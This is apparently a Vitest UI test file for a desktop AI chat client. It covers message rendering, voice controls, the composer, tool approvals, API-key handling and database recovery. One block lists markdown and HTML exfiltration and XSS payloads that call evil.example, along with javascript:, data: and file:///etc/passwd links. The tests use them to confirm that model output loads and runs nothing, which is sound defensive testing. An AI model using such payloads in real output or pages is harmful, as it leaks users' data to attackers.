import { flushSync } from "svelte";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { AppController } from "../controllers/app.svelte";
import { FakeEngine, samples, type FakeOptions } from "../ipc/fake";
import type { VoiceState } from "../ipc/generated";
import { drawn, one, show } from "./stage";

let engine: FakeEngine;
let app: AppController;
let close: () => void = () => {};

async function open(options: FakeOptions = {}) {
  engine = new FakeEngine({ pace: 1, ...options });
  ({ app, close } = show(engine));
  await expect.poll(() => document.querySelector("[data-testid=window], [data-testid=trouble]")).not.toBeNull();
  await drawn();
}
const key = (type: "keydown" | "keyup", part: KeyboardEventInit) => (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent(type, { bubbles: true, cancelable: true, ...part }));
const called = (name: string) => engine.calls.filter((call) => call.name === name).map((call) => call.payload);
const line = samples.summaries(Date.now()).slice(0, 1);
const thread = (text: string): FakeOptions => ({
  snapshot: { conversations: line, conversation_count: 1 },
  messages: { panels: [samples.message({ id: "a", author: "they", blocks: [{ type: "text", text }] })] },
});

afterEach(() => {
  close();
  document.body.replaceChildren();
  vi.useRealTimers();
});

describe("text of a model", () => {
  const address = "https://evil.example/?q=secret";
  const payloads = [
    `![x](${address})`, `![x][r]\n\n[r]: ${address}`, `<img src="${address}">`, `<svg><image href="${address}"/></svg>`, `<style>@import "${address}"</style>`,
    `<link rel="prefetch" href="${address}">`, `<link rel="dns-prefetch" href="//evil.example">`, `<link rel="preconnect" href="${address}">`, `<meta http-equiv="refresh" content="0;url=${address}">`,
    `<form action="${address}"><input></form>`, `<iframe src="${address}"></iframe>`, `<video poster="${address}"></video>`, `<audio src="${address}"></audio>`, `<object data="${address}"></object>`,
    `<embed src="${address}">`, `<base href="${address}">`, `<a href="${address}" ping="${address}">x</a>`, `<div style="background:url(${address})">x</div>`, `<script src="${address}"></script>`,
    `[x](javascript:alert(1))`, `[x](data:text/html,<script>1</script>)`, `[x](file:///etc/passwd)`, `<${address}>`, address, `[![x](${address})](${address})`, `| ![x](${address}) |\n|---|\n| y |`,
    `- ![x](${address})\n- <img src=${address}>`, `> <img src=${address}>`, `# ![x](${address})`, `**![x](${address})**`, `<details open ontoggle=alert(1)>x</details>`, `<math><mtext><img src=${address}></mtext></math>`,
    "```html\n<img src=x onerror=alert(1)>\n```", `&lt;img src=x onerror=alert(1)&gt;`, `<!-- <img src="${address}"> -->`, `<picture><source srcset="${address}"></picture>`, `<table background="${address}"></table>`,
    `<input type=image src="${address}">`, `<track src="${address}">`, `<noscript><img src="${address}"></noscript>`,
  ];

  it.each(payloads)("%s loads nothing and runs nothing, at any stage of its arrival", async (payload) => {
    await open(thread(""));
    const article = one("message");
    const allowed = /^(ARTICLE|DIV|SPAN|P|BDI|BUTTON|svg|path|STRONG|EM|DEL|CODE|PRE|BR|UL|OL|LI|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|H[3-6]|HR)$/;
    for (const end of [...new Set([1, 5, 9, 14, Math.floor(payload.length / 2), payload.length - 1, payload.length])]) {
      engine.emit({ type: "message", message: samples.message({ id: "a", author: "they", blocks: [{ type: "text", text: payload.slice(0, end) }] }) });
      flushSync();
      for (const element of article.querySelectorAll("*")) {
        expect(element.tagName).toMatch(allowed);
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^(on|src|href|srcset|poster|action|data$|background|ping|formaction)/);
          if (name === "style") expect(value).not.toContain("url(");
        }
      }
    }
  });

  it("is followed nowhere before the host was shown, and then by the engine", async () => {
    await open(thread("[mybank.com](https://evil.example/login)"));
    one("link").click();
    flushSync();
    expect(called("open_link")).toEqual([]);
    expect(one("link-dialog").textContent).toMatch(/mybank\.com.*evil\.example/s);
    one("link-open").click();
    expect(called("open_link")).toEqual([{ url: "https://evil.example/login" }]);
  });
});

describe("the talk key", () => {
  const states: VoiceState[] = ["idle", "connecting", "listening", "hearing", "thinking", "speaking", "interrupted", "reconnecting", "muted", "failed"];

  it.each(states)("draws the state %s by shape and word", async (state) => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, voice: { ...samples.idleVoice, state } } });
    const button = one("talk-key");
    expect(button.dataset["state"]).toBe(state);
    expect(button.querySelectorAll("svg").length).toBe(3);
    expect(button.textContent?.trim()).not.toBe("");
    expect(button.querySelector(".string")?.getAttribute("aria-hidden")).toBe("true");
  });

  it("goes down and up with Space, once, however often the key repeats", async () => {
    await open(thread("x"));
    key("keydown", { key: " ", code: "Space" });
    key("keydown", { key: " ", code: "Space", repeat: true });
    key("keyup", { key: " ", code: "Space" });
    expect(called("talk_key")).toEqual([{ down: true, by: "space" }, { down: false }]);
  });

  it("leaves Space to the text field, and takes it back after Esc", async () => {
    await open(thread("x"));
    one("composer").focus();
    key("keydown", { key: " ", code: "Space" });
    expect(called("talk_key")).toEqual([]);
    key("keydown", { key: "Escape", code: "Escape" });
    key("keydown", { key: " ", code: "Space" });
    expect(called("talk_key")).toEqual([{ down: true, by: "space" }]);
  });

  it("is let go when the window loses the keyboard", async () => {
    await open(thread("x"));
    key("keydown", { key: " ", code: "Space" });
    window.dispatchEvent(new Event("blur"));
    expect(called("talk_key")).toEqual([{ down: true, by: "space" }, { down: false }]);
  });

  it("offers what was cancelled back, and sends it", async () => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, voice: { ...samples.idleVoice, kept: { id: "1", ms: 3200, reason: "cancelled", conversation_id: null } } } });
    expect(one("kept").textContent).toMatch(/Cancelled.*0:03.*Undo/s);
    one("kept-undo").click();
    expect(called("talk_send_kept")).toHaveLength(1);
  });

  it.each([
    ["m", {}, "talk_mute"],
    ["H", { ctrlKey: true, shiftKey: true, code: "KeyH" }, "talk_hang_up"],
  ])("%s %o is %s", async (name, part, command) => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, voice: { ...samples.idleVoice, state: "speaking", in_call: true } } });
    key("keydown", { key: name, ...part });
    expect(called(command)).toHaveLength(1);
  });
});

describe("the composer", () => {
  const type = (text: string) => {
    const field = one<HTMLTextAreaElement>("composer");
    field.focus();
    field.value = text;
    field.dispatchEvent(new Event("input", { bubbles: true }));
    flushSync();
    return field;
  };

  it("sends with Enter, breaks with Shift Enter, and leaves Enter to an input method", async () => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, providers: [samples.ollama], settings: { ...samples.defaultSettings, provider: "ollama" } } });
    const field = type("Hello");
    key("keydown", { key: "Enter", shiftKey: true });
    key("keydown", { key: "Enter", isComposing: true });
    expect(called("send_message")).toEqual([]);
    key("keydown", { key: "Enter" });
    await expect.poll(() => called("send_message")).toEqual([{ conversation_id: "panels", text: "Hello" }]);
    await expect.poll(() => field.value).toBe("");
    await expect.poll(() => document.querySelector("[data-testid=stop]")).not.toBeNull();
    one("stop").click();
    await expect.poll(() => one("message") && document.querySelector("[data-status=stopped]")).not.toBeNull();
  });

  it("stops the running answer with Esc, from inside the text field", async () => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, providers: [samples.ollama], settings: { ...samples.defaultSettings, provider: "ollama" } } });
    type("Hello");
    key("keydown", { key: "Enter" });
    await expect.poll(() => document.querySelector("[data-testid=stop]")).not.toBeNull();
    key("keydown", { key: "Escape", code: "Escape" });
    expect(called("stop_answer")).toEqual([{ id: "panels" }]);
    expect(document.activeElement).toBe(one("composer"));
  });

  it("takes ten megabytes from the clipboard without laying them out", async () => {
    await open(thread("x"));
    const field = type("");
    const paste = new Event("paste", { bubbles: true, cancelable: true });
    Object.assign(paste, { clipboardData: { getData: () => "x".repeat(10_000_000) } });
    field.dispatchEvent(paste);
    await drawn();
    expect(paste.defaultPrevented).toBe(true);
    expect(field.value).toBe("");
    expect(one("pasted").textContent).toContain("10 MB");
  });
});

describe("a tool", () => {
  const asking = () => ({ ...thread("x"), messages: { panels: samples.tools() } });
  const slip = (state: string) => document.querySelector<HTMLElement>(`[data-testid=tool-call][data-state=${state}]`);

  it("asks, and the answer goes to the engine once", async () => {
    await open(asking());
    await expect.poll(() => slip("asking")).not.toBeNull();
    expect(slip("asking")?.querySelector("[role=alert]")?.textContent).toContain("Read file");
    one("tool-once").click();
    await expect.poll(() => called("decide_tool")).toEqual([{ message_id: "w4", call_id: "r2", decision: "once" }]);
    expect(document.querySelector("[data-testid=tool-once]")).toBeNull();
  });

  it("allows always from its menu, and says no by the focused button", async () => {
    await open(asking());
    await expect.poll(() => slip("asking")).not.toBeNull();
    one("tool-more").click();
    flushSync();
    one("tool-always").click();
    await expect.poll(() => called("decide_tool")).toEqual([{ message_id: "w4", call_id: "r2", decision: "always" }]);
  });

  it("can be stopped alone after two seconds", async () => {
    await open(asking());
    await expect.poll(() => document.querySelector("[data-testid=tool-stop]")).not.toBeNull();
    one("tool-stop").click();
    await expect.poll(() => called("decide_tool")).toEqual([{ message_id: "w4", call_id: "r1", decision: "stop" }]);
  });

  it("folds more than four, and shows what failed and what was not allowed", async () => {
    await open(asking());
    await expect.poll(() => document.querySelector("[data-testid=tool-fold]")).not.toBeNull();
    expect(one("tool-fold").textContent).toContain("5 tools");
    expect(document.querySelectorAll("[data-tool=sun_hours]")).toHaveLength(1);
    one("tool-fold").click();
    flushSync();
    expect(document.querySelectorAll("[data-tool=sun_hours]")).toHaveLength(6);
    expect([slip("failed"), slip("refused")]).not.toContain(null);
  });

  it("reads files that go with the message", async () => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, providers: [samples.ollama], settings: { ...samples.defaultSettings, provider: "ollama" } } });
    const input = one<HTMLInputElement>("attach-input");
    Object.defineProperty(input, "files", { value: [new File(["sun and shade"], "notes.md")] });
    input.dispatchEvent(new Event("change", { bubbles: true }));
    await expect.poll(() => document.querySelector("[data-testid=file]")?.textContent).toContain("notes.md");
    expect(called("choose_file")).toEqual([{ name: "notes.md", data: btoa("sun and shade") }]);
    const field = one<HTMLTextAreaElement>("composer");
    field.focus();
    field.value = "Read this";
    field.dispatchEvent(new Event("input", { bubbles: true }));
    flushSync();
    key("keydown", { key: "Enter" });
    await expect.poll(() => called("send_message")).toMatchObject([{ text: "Read this", files: [expect.any(String)] }]);
  });

  it("sends files without a word", async () => {
    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, providers: [samples.ollama], settings: { ...samples.defaultSettings, provider: "ollama" } } });
    expect(one("send").hasAttribute("disabled")).toBe(true);
    await app.composer.attach([new File(["sun and shade"], "notes.md")]);
    await drawn();
    expect(one("send").hasAttribute("disabled")).toBe(false);
    one("send").click();
    await expect.poll(() => called("send_message")).toMatchObject([{ text: "", files: [expect.any(String)] }]);
    await expect.poll(() => app.composer.draft.files).toEqual([]);
  });
});

describe("a key", () => {
  it("is not on the page once the engine has it", async () => {
    await open();
    const field = one<HTMLInputElement>("key");
    const paste = new Event("paste", { bubbles: true, cancelable: true });
    Object.assign(paste, { clipboardData: { getData: () => " sk-proj-canary\n" } });
    field.dispatchEvent(paste);
    await expect.poll(() => document.querySelector("[data-testid=key-works]")?.textContent).toMatch(/3 models.*api\.openai\.com/s);
    expect(called("set_key")).toEqual([{ provider: "openai", key: "sk-proj-canary", keep: "keyring", allow_plain_http: false }]);
    expect(field.value).toBe("");
    expect(document.documentElement.outerHTML).not.toContain("canary");
  });

  it("has left the page before the provider is even asked", async () => {
    await open();
    const asked = vi.spyOn(engine, "call");
    const field = one<HTMLInputElement>("key");
    field.value = "sk-proj-canary";
    field.dispatchEvent(new Event("input", { bubbles: true }));
    flushSync();
    asked.mockImplementation((name) => (name === "test_provider" ? new Promise(() => {}) : Promise.resolve({})));
    one("key-save").click();
    await expect.poll(() => field.value).toBe("");
    expect(asked.mock.calls.map(([name]) => name)).toEqual(["set_key", "test_provider"]);
  });

  it("can be used for this session only where there is no keyring", async () => {
    await open({ snapshot: { keyring: { state: "absent", store: "" } } });
    const field = one<HTMLInputElement>("key");
    field.value = "sk-proj-canary";
    field.dispatchEvent(new Event("input", { bubbles: true }));
    flushSync();
    one("key-save").click();
    await expect.poll(() => called("set_key")).toMatchObject([{ keep: "session" }]);
  });
});

describe("the window", () => {
  it("draws nothing but the trouble when the data cannot be opened", async () => {
    await open({ snapshot: { trouble: { code: "database_newer", provider: null, host: null, model: null, status: null, seconds: null, why: null, near: [], retry_at_ms: null, details: "version 9" } } });
    expect(one("trouble").textContent).toMatch(/newer Parlance.*Nothing was changed/s);
    expect(document.querySelector("[data-testid=composer]")).toBeNull();
  });

  describe("with a damaged history", () => {
    const damaged: FakeOptions = { snapshot: { trouble: { code: "database_damaged", provider: null, host: null, model: null, status: null, seconds: null, why: null, near: [], retry_at_ms: null, details: null } } };
    const copies = [2, 1].map((day) => ({ name: `${day}-daily.db`, made_ms: Date.UTC(2026, 10, day), conversations: 1000 + day }));

    it("puts the chosen copy back and says to start again", async () => {
      await open({ ...damaged, rescue: { backups: copies, salvageable: false } });
      await expect.poll(() => document.querySelectorAll("[data-testid=restore]").length).toBe(2);
      expect(one("rescue").textContent).toContain("1,002 conversations");
      expect(document.querySelector("[data-testid=salvage]")).toBeNull();
      document.querySelectorAll<HTMLElement>("[data-testid=restore]")[1]?.click();
      await expect.poll(() => document.querySelector("[data-testid=rescued]")?.textContent).toMatch(/1,001 conversations are back.*damaged-2026-11-24.*start it again/s);
      expect(called("restore_backup")).toEqual([{ name: "1-daily.db" }]);
      expect(document.querySelector("[data-testid=retry]")).toBeNull();
      expect(one("trouble").textContent).not.toContain("Nothing was changed");
    });

    it("keeps what can be read and tells how much that is", async () => {
      await open(damaged);
      await expect.poll(() => document.querySelector("[data-testid=salvage]")).not.toBeNull();
      one("salvage").click();
      one("salvage").click();
      await expect.poll(() => document.querySelector("[data-testid=rescued]")?.textContent).toContain("1,200 of 1,204 conversations are back");
      expect(called("salvage")).toEqual([{}]);
    });

    it("says so when nothing can be done, and when it fails", async () => {
      await open({ ...damaged, rescue: { backups: [], salvageable: false } });
      await expect.poll(() => one("rescue").textContent).toContain("There is no copy");
      close();
      document.body.replaceChildren();
      await open(damaged);
      engine.refusals.set("salvage", "disk_full");
      await expect.poll(() => document.querySelector("[data-testid=salvage]")).not.toBeNull();
      one("salvage").click();
      await expect.poll(() => one("rescue").textContent).toContain("The disk is full");
      expect(one<HTMLButtonElement>("salvage").disabled).toBe(false);
    });
  });

  it("changes its language and its look at once", async () => {
    await open(thread("x"));
    engine.emit({ type: "settings", settings: { ...samples.defaultSettings, language: "zh-CN", theme: "dark", text_scale: 1.3 } });
    flushSync();
    const { lang, dataset, style } = document.documentElement;
    expect([lang, dataset["theme"], style.getPropertyValue("--text-scale")]).toEqual(["zh-CN", "dark", "1.3"]);
    expect(one("talk-key").textContent).toContain("按住说话");
    engine.emit({ type: "settings", settings: { ...samples.defaultSettings, language: "en" } });
    flushSync();
  });

  it("renames in place with F2 and keeps the old title on Esc", async () => {
    await open(thread("x"));
    one("conversation").focus();
    key("keydown", { key: "F2" });
    flushSync();
    key("keydown", { key: "Escape" });
    flushSync();
    one("conversation").focus();
    key("keydown", { key: "F2" });
    flushSync();
    one<HTMLInputElement>("rename").value = "Sun";
    key("keydown", { key: "Enter" });
    expect(called("rename_conversation")).toEqual([{ id: "panels", title: "Sun" }]);
  });

  it("finds by Ctrl K and opens at the message", async () => {
    await open(thread("The lime tree takes the sun"));
    key("keydown", { key: "k", code: "KeyK", ctrlKey: true });
    flushSync();
    const field = one<HTMLInputElement>("search");
    field.value = "lime";
    field.dispatchEvent(new Event("input", { bubbles: true }));
    await expect.poll(() => document.querySelector("[data-testid=hit] mark")?.textContent).toBe("lime");
    key("keydown", { key: "Enter" });
    flushSync();
    expect(app.navigation.page).toEqual({ kind: "conversation", id: "panels", message: "a" });
  });
});
